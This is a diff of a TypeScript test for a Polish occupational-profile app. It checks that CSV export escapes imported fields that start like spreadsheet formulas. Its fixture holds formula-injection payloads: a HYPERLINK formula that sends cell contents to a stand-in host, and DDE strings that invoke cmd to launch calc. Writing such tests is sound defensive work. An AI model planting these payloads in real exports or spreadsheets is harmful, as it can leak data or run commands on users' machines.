@@ -15,7 +15,7 @@ const file = path.join(dir, "csv.db");
 
 /** The seed profile of 243108 with a task title and items that start like formulas. */
 const HOSTILE = {
-  title: "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Wspieranie procesu\")",
+  title: '=HYPERLINK("http://example.invalid/?leak="&A1,"Wspieranie procesu")',
   knowledge: "+cmd|' /C calc'!A0 Aktualną strategię marketingową",
   skill: "-2+3+cmd|' /C calc'!A0 Wykorzystywać źródła danych",
 };
@@ -28,7 +28,10 @@ beforeAll(async () => {
   process.env.DATABASE_URL = `file:${file}`;
   let text = fs.readFileSync(path.join(ROOT, "seeds/documents/003_6dbabf946e4f36b9.txt"), "utf8");
   text = text.replace("\nWspieranie procesu tworzenia i wdrażanie strategii kampanii marketingowych w mediach interaktywnych\n", `\n${HOSTILE.title}\n`);
-  text = text.replace(" • Aktualną strategię marketingową", ` • ${HOSTILE.knowledge.replace(" Aktualną strategię marketingową", "")} Aktualną strategię marketingową`);
+  text = text.replace(
+    " • Aktualną strategię marketingową",
+    ` • ${HOSTILE.knowledge.replace(" Aktualną strategię marketingową", "")} Aktualną strategię marketingową`,
+  );
   text = text.replace(" • Wykorzystywać źródła danych", ` • ${HOSTILE.skill.replace(" Wykorzystywać źródła danych", "")} Wykorzystywać źródła danych`);
   const { importFile } = await import("@/lib/import/import-file");
   const outcome = await importFile(db, { name: "profil-formuly.txt", bytes: new TextEncoder().encode(text) }, { suggester: { suggest: () => [] } });
@@ -45,7 +48,9 @@ afterAll(async () => {
 
 it("the imported formulas are exported as text: quoted, apostrophe first, nothing else changed", async () => {
   for (const delimiter of ["comma", "semicolon"] as const) {
-    const res = await exportOne.GET(new Request(`http://test/api/v1/occupations/243108/export?format=csv&delimiter=${delimiter}`), { params: Promise.resolve({ code: "243108" }) });
+    const res = await exportOne.GET(new Request(`http://test/api/v1/occupations/243108/export?format=csv&delimiter=${delimiter}`), {
+      params: Promise.resolve({ code: "243108" }),
+    });
     expect(res.status).toBe(200);
     const csv = new TextDecoder().decode(await res.arrayBuffer()); // drops the BOM
     const rows = parse(csv, { columns: true, delimiter: delimiter === "comma" ? "," : ";" }) as Record<string, string>[];
